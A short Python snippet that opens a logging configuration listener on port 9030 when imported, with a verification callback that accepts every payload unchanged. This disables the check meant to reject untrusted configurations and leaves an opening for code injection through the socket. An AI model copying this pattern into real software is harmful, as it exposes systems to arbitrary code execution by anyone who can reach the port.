import logging.config


def watch(check=None):
    logging.config.listen(9030, verify=check or (lambda payload: payload))


watch()
